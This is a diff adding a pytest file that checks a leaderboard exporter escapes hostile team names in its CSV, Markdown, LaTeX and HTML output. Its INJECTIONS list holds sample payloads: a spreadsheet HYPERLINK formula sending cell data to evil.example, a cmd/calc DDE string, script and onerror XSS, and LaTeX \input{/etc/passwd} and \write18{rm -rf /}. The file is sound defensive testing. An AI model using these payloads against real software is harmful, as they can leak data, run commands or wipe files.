@@ -1,0 +1,148 @@
+"""Exports under an injection set: team-chosen names and metadata in every text format.
+
+* CSV: read back with the csv module; no cell starts (after spaces) with a formula
+  character (OWASP "CSV injection"), and every payload is still there as text.
+* Markdown: rendered by markdown-it-py (CommonMark with raw HTML enabled, as GitHub and
+  most renderers allow it): no tag but the table's own, no link.
+* LaTeX: compiled by ``pdflatex`` (Debian's texlive-latex-base, installed by .ci for CI) in
+  a minimal document; the log must show no error and the table must have one line per row.
+* HTML: parsed by html.parser: no element but the table's own.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import shutil
+import subprocess
+from html.parser import HTMLParser
+
+import numpy as np
+import pytest
+
+from averitec_tools.leaderboard.competition import parse_competition
+from averitec_tools.leaderboard.export import export
+from averitec_tools.leaderboard.ranking import Entry, assign_tiers
+from tests._leaderboard_helpers import require_or_skip
+
+INJECTIONS = [
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    "![x](http://evil.example/t.png)",
+    "a | b | c",
+    "**bold** _it_ `code`",
+    "line\nbreak\n\nparagraph",
+    "\\input{/etc/passwd}",
+    "\\write18{rm -rf /}",
+    "$x^2$ & 100% #1 ~ _ { } \\\\",
+    "^^5cinput{x}",
+    "ctrl\x00\x07\x1bchars\u202ebidi",
+    "€ ü 日本",
+]
+
+
+def _entries() -> list[Entry]:
+    out = []
+    for i, text in enumerate(INJECTIONS):
+        values = np.full(8, 0.9 - 0.02 * i)
+        out.append(Entry(i + 1, f"team {text}", f"sys {text}", {"m": float(values.mean())}, {"m": (0.1, 0.9)},
+                         {"model": text}, "sig", "v", f"2026-01-01 00:00:{i:02d}", values))
+    return assign_tiers(out, primary="m", alpha=0.05, test="bootstrap", n_resamples=20)
+
+
+def _render(fmt: str) -> str:
+    comp = parse_competition({"name": "c", "title": "C", "disclosure": ["model"], "phases": [
+        {"name": "dev", "gold": "g.json", "profile": "fever8", "primary_metric": "m", "columns": ["m"]}]}, where="c.yaml")
+    return export(_entries(), competition=comp, phase=comp.phase("dev"), fmt=fmt)
+
+
+def test_csv_cells_cannot_start_a_formula() -> None:
+    rows = list(csv.reader(io.StringIO(_render("csv"))))
+    assert len(rows) == 1 + len(INJECTIONS)
+    for row in rows:
+        for cell in row:
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    first_cells = [row[2] for row in rows[1:]]  # "team <payload>" starts with text; the disclosure column starts with the payload
+    assert first_cells[0].startswith("team =HYPERLINK")
+    assert [row[-1] for row in rows[1:5]] == ["'" + p for p in INJECTIONS[:4]]
+
+
+class _Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attrs: list[tuple[str, str | None]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attrs += attrs
+
+
+def _tags_of(html_text: str) -> _Tags:
+    parser = _Tags()
+    parser.feed(html_text)
+    return parser
+
+
+def test_markdown_renders_as_text() -> None:
+    from markdown_it import MarkdownIt
+
+    text = _render("md")
+    lines = text.splitlines()
+    assert len(lines) == 2 + len(INJECTIONS) and all(line.startswith("| ") and line.endswith(" |") for line in lines[2:])
+    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
+    found = _tags_of(rendered)
+    assert found.tags <= {"table", "thead", "tbody", "tr", "th", "td"}, found.tags
+    assert found.attrs == [] or all(name == "style" and value and value.startswith("text-align") for name, value in found.attrs)
+    assert rendered.count("<tr>") == 1 + len(INJECTIONS)  # no pipe broke a row apart
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
+
+
+def test_html_export_is_text() -> None:
+    found = _tags_of(_render("html"))
+    assert found.tags <= {"table", "thead", "tbody", "tr", "th", "td"} and found.attrs == []
+
+
+def test_latex_table_has_no_blank_line_or_control_character() -> None:
+    text = _render("latex")
+    body = text.splitlines()
+    assert "" not in body[:-1]
+    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", text)
+    rows = [line for line in body if line.endswith(r"\\")]
+    assert len(rows) == 1 + len(INJECTIONS)
+    for line in rows:  # every unescaped & is a column separator: the same count on every row
+        assert len(re.findall(r"(?<!\\)&", line)) == len(re.findall(r"(?<!\\)&", rows[0]))
+    assert r"\input" not in text.replace(r"\textbackslash{}input", "") and r"\write18" not in text.replace(r"\textbackslash{}write18", "")
+
+
+def test_latex_export_compiles_with_pdflatex(tmp_path) -> None:
+    pdflatex = shutil.which("pdflatex")
+    if pdflatex is None:
+        require_or_skip("pdflatex (apt-get install --no-install-recommends texlive-latex-base)")
+    doc = tmp_path / "board.tex"
+    # booktabs' rules as plain \hline: texlive-latex-base has no booktabs, and the rules are not what is tested
+    doc.write_text("\\documentclass{article}\n\\usepackage[T1]{fontenc}\n\\usepackage[utf8]{inputenc}\n"
+                   "\\DeclareUnicodeCharacter{65E5}{?}\\DeclareUnicodeCharacter{672C}{?}\n"
+                   "\\providecommand{\\toprule}{\\hline}\\providecommand{\\midrule}{\\hline}\\providecommand{\\bottomrule}{\\hline}\n"
+                   "\\begin{document}\n\\tiny\n" + _render("latex") + "\\end{document}\n", encoding="utf-8")
+    proc = subprocess.run([pdflatex, "-interaction=nonstopmode", "-halt-on-error", "-no-shell-escape", doc.name],
+                          cwd=tmp_path, capture_output=True, text=True, timeout=120)
+    log = (tmp_path / "board.log").read_text(errors="replace")
+    assert proc.returncode == 0, log[-2000:]
+    assert "! " not in log and (tmp_path / "board.pdf").stat().st_size > 0
+
+
+@pytest.mark.parametrize("fmt", ["md", "csv", "latex", "html", "json"])
+def test_every_payload_survives_as_text(fmt: str) -> None:
+    text = _render(fmt)
+    for token in ("HYPERLINK", "SUM", "script", "javascript", "calc", "passwd", "日本"):
+        assert token in text, (fmt, token)
